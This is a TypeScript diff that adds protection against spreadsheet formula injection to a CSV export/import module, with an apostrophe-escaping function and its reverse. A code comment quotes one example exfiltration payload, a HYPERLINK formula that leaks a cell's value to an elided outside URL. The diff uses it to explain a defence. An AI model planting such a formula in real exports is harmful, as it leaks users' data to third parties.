@@ -1,12 +1,39 @@
 // RFC 4180 CSV: CRLF between records, a field quoted when it holds a comma, a double quote or a
 // line break, and double quotes inside doubled. The reader accepts LF endings too.
+//
+// Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that begins with `=`, `+`,
+// `-`, `@`, a tab or a carriage return as a formula, so a third party's label such as
+// `=HYPERLINK("http://…?leak="&A1,"x")` could leak cells or start a command when an export is opened.
+// `escapeFormula` puts an apostrophe before such a cell; spreadsheets take a leading apostrophe as
+// "this is text" and do not show it. A cell that already begins with an apostrophe followed by one
+// of those characters (or by another apostrophe) gets one too, so `unescapeFormula` can remove
+// exactly one apostrophe and every string comes back as it was: the import reads its own export back
+// to the original text. Other cells, including `'Tis` or `don't`, are left alone both ways.
+
+const FORMULA_START = new Set(["=", "+", "-", "@", "\t", "\r"]);
+
+const needsApostrophe = (value: string) =>
+  FORMULA_START.has(value.charAt(0)) ||
+  (value.charAt(0) === "'" && (FORMULA_START.has(value.charAt(1)) || value.charAt(1) === "'"));
+
+/** The cell as a spreadsheet will not run it (see above). */
+export function escapeFormula(value: string): string {
+  return needsApostrophe(value) ? `'${value}` : value;
+}
+
+/** The text `escapeFormula` was given. */
+export function unescapeFormula(cell: string): string {
+  return cell.charAt(0) === "'" && needsApostrophe(cell.slice(1)) ? cell.slice(1) : cell;
+}
 
 export function csvField(value: string): string {
   return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
 }
 
 export function toCsv(header: readonly string[], rows: readonly (readonly string[])[]): string {
-  return [header, ...rows].map((row) => row.map(csvField).join(",")).join("\r\n") + "\r\n";
+  return (
+    [header, ...rows].map((row) => row.map((cell) => csvField(escapeFormula(cell))).join(",")).join("\r\n") + "\r\n"
+  );
 }
 
 export type CsvParse = { ok: true; rows: string[][] } | { ok: false; line: number; message: string };
